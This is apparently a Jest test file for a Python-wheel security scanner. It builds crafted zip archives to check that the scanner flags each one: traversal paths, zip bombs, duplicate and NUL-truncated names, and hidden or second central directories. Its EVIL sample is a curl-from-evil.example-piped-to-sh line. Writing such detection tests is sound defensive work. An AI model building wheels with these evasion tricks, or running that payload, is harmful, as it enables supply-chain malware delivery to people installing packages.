import { describe, expect } from '@jest/globals'
import { execFileSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { writeFileSync } from 'node:fs'
import { basename, join } from 'node:path'
import { DEFAULT_STAGE_OPTIONS, runPipeline } from '../../src/pipeline/index.js'
import { DEFAULT_READ_LIMITS, readArchive } from '../../src/read/read-archive.js'
import { readPackageMetadata } from '../../src/read/package-metadata.js'
import {
  buildDistributions,
  withBackendsFor,
  withPython,
  writeWheelProject,
  type Backend
} from '../helpers/python-build.js'
import { tempDir } from '../helpers/sdist.js'
import { zipfileReads } from '../helpers/zipfile-oracle.js'

const withBackends = withBackendsFor('the wheel-reading tests')
const withZipfile = withPython(['zipfile'], 'python3-build', 'the crafted-zip tests')

/** Writes a zip with Python's zipfile: each entry a name and text, or a script of its own. */
function craftZip(script: string): string {
  const file = join(tempDir('zip-'), 'demo_whl-1.0-py3-none-any.whl')
  execFileSync('/usr/bin/python3', [
    '-c',
    `import sys, zipfile\npath = sys.argv[1]\n${script}`,
    file
  ])
  return file
}

const MINIMAL_WHEEL = `
z = zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED)
z.writestr('demo_whl-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: demo-whl\\nVersion: 1.0\\n')
z.writestr('demo_whl-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')
`

describe('reading wheels', () => {
  for (const backend of ['setuptools', 'flit', 'hatchling'] as Backend[]) {
    withBackends(`a wheel built by ${backend} reads whole, RECORD intact`, async () => {
      const { wheel } = buildDistributions(writeWheelProject(tempDir(), backend, '1.0'))
      const read = await agreesWithZipfile(wheel)
      expect(read.wheel).toMatchObject({
        distInfo: 'demo_whl-1.0.dist-info',
        tags: expect.arrayContaining(['py3-none-any']),
        rootIsPurelib: true,
        recordProblems: []
      })
      expect(read.unsafe).toEqual([])
      expect([...read.entries.keys()]).toEqual(
        expect.arrayContaining([
          'demo_whl/__init__.py',
          'demo_whl/py.typed',
          'demo_whl/data/defaults.json'
        ])
      )
      const metadata = readPackageMetadata(read)
      expect(metadata).toMatchObject({ name: 'demo-whl', version: '1.0' })
    })
  }

  withZipfile('a file changed after the build, or added, contradicts RECORD', async () => {
    // RECORD is written for the files as built; then one file changes and one is slipped in.
    const file = craftZip(`
import hashlib, base64
z = zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED)
built = {
  'demo_whl/__init__.py': b'X = 1\\n',
  'demo_whl-1.0.dist-info/METADATA': b'Metadata-Version: 2.1\\nName: demo-whl\\nVersion: 1.0\\n',
  'demo_whl-1.0.dist-info/WHEEL': b'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n',
}
def line(name, body):
  digest = base64.urlsafe_b64encode(hashlib.sha256(body).digest()).rstrip(b'=').decode()
  return f'{name},sha256={digest},{len(body)}\\n'
record = ''.join(line(n, b) for n, b in built.items()) + line('demo_whl/gone.py', b'gone') + 'demo_whl-1.0.dist-info/RECORD,,\\n'
built['demo_whl/__init__.py'] = b'X = 2  # tampered\\n'
built['demo_whl/extra.py'] = b'import os\\n'
for name, body in built.items():
  z.writestr(name, body)
z.writestr('demo_whl-1.0.dist-info/RECORD', record)
z.close()`)
    const read = await readArchive(file)
    expect(read.wheel?.recordProblems).toEqual([
      { path: 'demo_whl/__init__.py', problem: expect.stringContaining('SHA-256 differs') },
      { path: 'demo_whl/extra.py', problem: expect.stringContaining('not listed in RECORD') },
      { path: 'demo_whl/gone.py', problem: expect.stringContaining('not in the wheel') }
    ])
  })

  withZipfile('".." and absolute paths and duplicates are flagged, never placed', async () => {
    const file = craftZip(`${MINIMAL_WHEEL}
import warnings
warnings.simplefilter('ignore')
z.writestr('../evil.pth', 'import os\\n')
z.writestr('/etc/evil.py', 'x\\n')
z.writestr('demo_whl/a.py', '1\\n')
z.writestr('demo_whl/a.py', '2\\n')
z.close()`)
    const read = await readArchive(file)
    expect(read.unsafe).toEqual([
      { path: '../evil.pth', reason: 'path with ".." segment' },
      { path: '/etc/evil.py', reason: 'absolute path' },
      {
        path: 'demo_whl/a.py',
        reason:
          'duplicate entry: extraction would overwrite it (pip installs the copy listed last in the central directory)'
      }
    ])
    expect([...read.entries.keys()].some(path => path.includes('evil'))).toBe(false)
  })

  withZipfile(
    'a zip bomb is refused before it is inflated: size cap, ratio, overlaps',
    async () => {
      const big = craftZip(`${MINIMAL_WHEEL}
z.writestr('demo_whl/zeros.bin', bytes(2 * 1024 * 1024))
z.close()`)
      await expect(
        readArchive(big, { ...DEFAULT_READ_LIMITS, maxUnpackedBytes: 1024 ** 2 })
      ).rejects.toThrow(/expands to more than 1 MiB uncompressed \(a zip bomb\?\)/)

      const ratio = craftZip(`${MINIMAL_WHEEL}
z.writestr('demo_whl/zeros.bin', bytes(100 * 1024 * 1024))
z.close()`)
      await expect(readArchive(ratio)).rejects.toThrow(
        /zeros\.bin" inflates \d+:1 \(a zip bomb\?\)/
      )

      // Two central-directory records pointing at the same local data: the overlapping-file bomb.
      const overlap = craftZip(`${MINIMAL_WHEEL}
z.writestr('demo_whl/a.py', 'A' * 1000)
z.writestr('demo_whl/b.py', 'B' * 1000)
z.close()
data = bytearray(open(path, 'rb').read())
import struct
pos = data.find(b'PK\\x01\\x02')
offsets = []
while pos >= 0:
    offsets.append(pos)
    pos = data.find(b'PK\\x01\\x02', pos + 4)
a_offset = struct.unpack_from('<I', data, offsets[-2] + 42)[0]
struct.pack_into('<I', data, offsets[-1] + 42, a_offset)
open(path, 'wb').write(data)`)
      await expect(readArchive(overlap)).rejects.toThrow(/overlap in the archive \(a zip bomb\?\)/)
    }
  )

  withZipfile('a local header that names another file, or damaged data, is refused', async () => {
    // The local header says e.py where the central directory says a.py: extractors would disagree.
    const renamed = craftZip(`${MINIMAL_WHEEL}
z.writestr(zipfile.ZipInfo('demo_whl/a.py'), 'print(1)\\n')
z.close()
data = bytearray(open(path, 'rb').read())
at = data.find(b'demo_whl/a.py')
data[at:at + 13] = b'demo_whl/e.py'
open(path, 'wb').write(data)`)
    await expect(readArchive(renamed)).rejects.toThrow(
      /zip entry "demo_whl\/a\.py": its local header names it "demo_whl\/e\.py"/
    )
    const damaged = craftZip(`${MINIMAL_WHEEL}
z.writestr(zipfile.ZipInfo('demo_whl/a.py'), 'print(1)\\n')
z.close()
data = bytearray(open(path, 'rb').read())
at = data.find(b'print(1)')
data[at] = ord('P')
open(path, 'wb').write(data)`)
    await expect(readArchive(damaged)).rejects.toThrow(/"demo_whl\/a\.py": CRC-32 mismatch/)
  })

  withZipfile(
    'a zip that is not a wheel, and a cut-short one, get errors that say so',
    async () => {
      const notWheel = craftZip(`z = zipfile.ZipFile(path, 'w')
z.writestr('demo/__init__.py', '')
z.close()`)
      await expect(readArchive(notWheel)).rejects.toThrow(
        /no \*\.dist-info\/METADATA: not a wheel \(an sdist is a \.tar\.gz file/
      )
      const wheel = craftZip(`${MINIMAL_WHEEL}\nz.close()`)
      const cut = join(tempDir(), 'cut.whl')
      writeFileSync(cut, execFileSync('head', ['-c', '100', wheel]))
      await expect(readArchive(cut)).rejects.toThrow(/cut\.whl: corrupt zip archive/)
    }
  )
})

/**
 * Byte surgery on wheels written by zipfile (stored, so local data outweighs the directory): `wheel`
 * builds one with a true RECORD, `parts` splits it at its central directory, `records` splits that.
 */
const SURGERY = `
import io, struct, hashlib, base64
def wheel(files):
    meta = [('demo_whl-1.0.dist-info/METADATA', b'Metadata-Version: 2.1\\nName: demo-whl\\nVersion: 1.0\\n'),
            ('demo_whl-1.0.dist-info/WHEEL', b'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')]
    rows = ''
    buf = io.BytesIO()
    z = zipfile.ZipFile(buf, 'w', zipfile.ZIP_STORED)
    for name, body in list(files) + meta:
        z.writestr(name, body)
        digest = base64.urlsafe_b64encode(hashlib.sha256(body).digest()).rstrip(b'=').decode()
        rows += f'{name},sha256={digest},{len(body)}\\n'
    z.writestr('demo_whl-1.0.dist-info/RECORD', rows + 'demo_whl-1.0.dist-info/RECORD,,\\n')
    z.close()
    return buf.getvalue()
def parts(data):
    at = data.rindex(b'PK\\x05\\x06')
    n, size, offset = struct.unpack_from('<HII', data, at + 10)
    return data[:offset], data[offset:offset + size], n
def records(cd):
    out, i = [], 0
    while i < len(cd):
        nl, el, cl = struct.unpack_from('<HHH', cd, i + 28)
        out.append(bytearray(cd[i:i + 46 + nl + el + cl]))
        i += 46 + nl + el + cl
    return out
def shift(record, by):
    struct.pack_into('<I', record, 42, struct.unpack_from('<I', record, 42)[0] + by)
    return record
def eocd(n, size, offset, comment=b''):
    return struct.pack('<4s4H2LH', b'PK\\x05\\x06', 0, 0, n, n, size, offset, len(comment)) + comment
BENIGN = b'X = 1\\n' + b'# the benign module\\n' * 20
EVIL = b'import os\\nos.system("curl https://evil.example/x | sh")\\n'
`

/** A crafted wheel: the script writes \`out\` (bytes) with the helpers above. */
function surgery(script: string): string {
  return craftZip(`${SURGERY}\n${script}\nopen(path, 'wb').write(out)`)
}

/** The benign 1.0 wheel the crafted ones are judged against, and the findings for the current one. */
async function judged(current: string) {
  const previous = surgery(`out = wheel([('demo_whl/__init__.py', BENIGN)])`)
  const run = await runPipeline({ kind: 'pair', previous, current }, DEFAULT_STAGE_OPTIONS)
  const findings = run.packages[0]?.findings ?? []
  return findings.filter(f => f.rule === 'unsafe-archive-entry')
}

/** What we read is what pip installs: our files against the oracle's, path by path. */
async function agreesWithZipfile(file: string) {
  const read = await readArchive(file)
  const [oracle] = zipfileReads([file])
  const ours = Object.fromEntries(
    [...read.entries.values()]
      .filter(e => e.type === 'file')
      .map(e => [e.path, { sha256: e.sha256, size: e.size }])
  )
  expect(oracle?.installError).toBeUndefined()
  expect(ours).toEqual(oracle?.installed)
  return read
}

const sha256 = (text: string) => createHash('sha256').update(text).digest('hex')
const EVIL_TEXT = 'import os\nos.system("curl https://evil.example/x | sh")\n'

describe('wheels that zipfile reads otherwise than other readers', () => {
  withZipfile(
    'two central directories: what pip installs is read and checked against RECORD, high',
    async () => {
      // The end record's offset points at the benign directory; its size makes zipfile read the evil
      // one just before it, whose offsets are stored less the shift (concat) zipfile adds.
      const file = surgery(`
lb, cdb, nb = parts(wheel([('demo_whl/__init__.py', BENIGN)]))
le, cde, ne = parts(wheel([('demo_whl/__init__.py', EVIL)]))
cde = b''.join(shift(r, len(lb) - len(cdb)) for r in records(cde))
out = lb + le + cdb + cde + eocd(nb, len(cde), len(lb) + len(le))`)
      const read = await agreesWithZipfile(file)
      expect(read.entries.get('demo_whl/__init__.py')?.sha256).toBe(sha256(EVIL_TEXT))
      expect(read.wheel?.recordProblems).toEqual([])
      const findings = await judged(file)
      expect(findings).toContainEqual(
        expect.objectContaining({
          severity: 'high',
          path: 'demo_whl/__init__.py',
          message: expect.stringMatching(
            /pip installs what zipfile reads \(local header at byte \d+, 56 bytes, CRC \w+\); the central directory the end record's offset points at gives other bytes \(local header at byte 0, 406 bytes/
          )
        })
      )
      expect(findings).toContainEqual(
        expect.objectContaining({
          severity: 'high',
          message: expect.stringMatching(
            /two central directories: the end record's offset points at one at byte \d+ \(4 entries\), zipfile reads the one at byte \d+/
          )
        })
      )
    }
  )

  withZipfile('bytes before the zip: zipfile shifts every offset, high', async () => {
    const file = surgery(
      `out = b'#!/bin/sh\\nexec python3 "$0"\\n' + wheel([('demo_whl/__init__.py', BENIGN)])`
    )
    await agreesWithZipfile(file)
    expect(await judged(file)).toContainEqual(
      expect.objectContaining({
        severity: 'high',
        path: basename(file),
        message: expect.stringContaining(
          '28 bytes before the zip: zipfile reads the central directory at byte 1048 and shifts every offset by 28'
        )
      })
    )
  })

  withZipfile('a duplicate name: the copy listed last is the one pip installs, high', async () => {
    // Written evil then benign; the directory lists benign first, so pip installs the evil copy.
    const file = surgery(`
buf = io.BytesIO()
z = zipfile.ZipFile(buf, 'w')
import warnings
warnings.simplefilter('ignore')
z.writestr('demo_whl-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: demo-whl\\nVersion: 1.0\\n')
z.writestr('demo_whl/__init__.py', EVIL)
z.writestr('demo_whl/__init__.py', BENIGN)
z.close()
lb, cd, n = parts(buf.getvalue())
r = records(cd)
r[1], r[2] = r[2], r[1]
cd = b''.join(r)
out = lb + cd + eocd(n, len(cd), len(lb))`)
    const read = await agreesWithZipfile(file)
    expect(read.entries.get('demo_whl/__init__.py')?.sha256).toBe(sha256(EVIL_TEXT))
    expect(await judged(file)).toContainEqual(
      expect.objectContaining({
        severity: 'high',
        path: 'demo_whl/__init__.py',
        message: expect.stringContaining('pip installs the copy listed last')
      })
    )
  })

  withZipfile('a NUL in a name: read at the path zipfile cuts it to, high', async () => {
    const file = surgery(`
import re
# In the local header and the directory; RECORD (followed by a comma) keeps the name it was given.
out = re.sub(rb'__init__\\.pyZ\\.txt(?!,)', b'__init__.py\\x00.txt', wheel([('demo_whl/__init__.pyZ.txt', EVIL)]))`)
    const read = await agreesWithZipfile(file)
    expect(read.entries.get('demo_whl/__init__.py')?.sha256).toBe(sha256(EVIL_TEXT))
    expect(await judged(file)).toContainEqual(
      expect.objectContaining({
        severity: 'high',
        path: 'demo_whl/__init__.py',
        message: expect.stringContaining(
          'other readers name it "demo_whl/__init__.py\\u0000.txt"; zipfile installs it as "demo_whl/__init__.py"'
        )
      })
    )
  })

  withZipfile(
    'a local header whose sizes and CRC contradict the directory, a hidden local entry, a wrong count: high',
    async () => {
      const file = surgery(`
data = bytearray(wheel([('demo_whl/__init__.py', BENIGN)]))
at = data.index(b'PK\\x03\\x04' + data[4:8])
hidden = data[:data.index(b'PK\\x03\\x04', 4)]
struct.pack_into('<I', data, 14, 0x12345678)
lb, cd, n = parts(bytes(data))
cd = b''.join(shift(r, len(hidden)) for r in records(cd))
out = hidden + lb + cd + eocd(n + 1, len(cd), len(hidden) + len(lb))`)
      await agreesWithZipfile(file)
      const findings = await judged(file)
      expect(findings).toContainEqual(
        expect.objectContaining({
          severity: 'high',
          path: 'demo_whl/__init__.py',
          message: expect.stringMatching(
            /its local header says (\d+) bytes \(CRC 12345678\), the central directory \1 \(CRC (?!12345678)/
          )
        })
      )
      expect(findings.map(f => f.message)).toEqual(
        expect.arrayContaining([
          expect.stringContaining(
            'a local file header at byte 0 that the central directory does not list'
          ),
          expect.stringContaining('the end record counts 5 entries, its central directory holds 4')
        ])
      )
    }
  )

  withZipfile(
    'a ".." that stays inside, a name not flagged UTF-8, a folder mode without "/": read where pip writes them, high',
    async () => {
      const file = surgery(`
buf = io.BytesIO()
z = zipfile.ZipFile(buf, 'w')
z.writestr('demo_whl-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: demo-whl\\nVersion: 1.0\\n')
z.writestr('demo_whl/sub/../up.py', EVIL)
z.writestr('demo_whl/caf\u00e9.py', EVIL)
folder = zipfile.ZipInfo('demo_whl/pkg')
folder.external_attr = 0o40755 << 16
z.writestr(folder, EVIL)
z.close()
out = buf.getvalue()
# The UTF-8 flag cleared (directory and local header): zipfile decodes the name as cp437.
data = bytearray(out)
for sig in (b'PK\\x03\\x04', b'PK\\x01\\x02'):
    at = data.find(sig)
    while at >= 0:
        flags_at = at + (6 if sig == b'PK\\x03\\x04' else 8)
        name_at = at + (30 if sig == b'PK\\x03\\x04' else 46)
        if data[name_at:name_at + 12] == b'demo_whl/caf':
            data[flags_at + 1] &= ~0x08
        at = data.find(sig, at + 4)
out = bytes(data)`)
      const read = await agreesWithZipfile(file)
      expect([...read.entries.keys()].sort()).toEqual([
        'demo_whl-1.0.dist-info/METADATA',
        'demo_whl/caf├⌐.py',
        'demo_whl/pkg',
        'demo_whl/up.py'
      ])
      const messages = (await judged(file)).map(f => `${f.severity} ${f.message}`)
      expect(messages).toEqual(
        expect.arrayContaining([
          'high demo_whl/up.py: path with ".." segment: pip installs "demo_whl/sub/../up.py" here',
          'high demo_whl/caf├⌐.py: file name is not flagged UTF-8: zipfile installs it as cp437 "demo_whl/caf├⌐.py", UTF-8 readers as "demo_whl/café.py"',
          'high demo_whl/pkg: folder mode on an entry whose name does not end in "/": pip installs it as a file'
        ])
      )
    }
  )

  withZipfile('a second end record whose comment holds the one zipfile reads: high', async () => {
    const file = surgery(`
lb, cdb, nb = parts(wheel([('demo_whl/__init__.py', BENIGN)]))
le, cde, ne = parts(wheel([('demo_whl/__init__.py', EVIL)]))
cde = b''.join(shift(r, len(lb)) for r in records(cde))
tail = cde + eocd(ne, len(cde), len(lb) + len(le) + len(cdb) + 22)
out = lb + le + cdb + eocd(nb, len(cdb), len(lb) + len(le), tail)`)
    const read = await agreesWithZipfile(file)
    expect(read.entries.get('demo_whl/__init__.py')?.sha256).toBe(sha256(EVIL_TEXT))
    expect((await judged(file)).map(f => f.message)).toContainEqual(
      expect.stringMatching(
        /a second end record at byte \d+, whose comment holds the one zipfile reads/
      )
    )
  })
})
